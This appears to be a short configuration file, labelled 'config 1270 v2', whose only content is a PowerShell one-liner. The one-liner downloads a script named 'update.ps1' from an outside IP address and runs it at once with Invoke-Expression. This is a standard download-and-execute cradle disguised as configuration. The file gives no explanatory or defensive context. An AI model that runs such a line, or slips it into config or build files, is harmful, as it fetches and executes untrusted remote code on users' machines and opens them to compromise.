# config 1270 v2
IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')
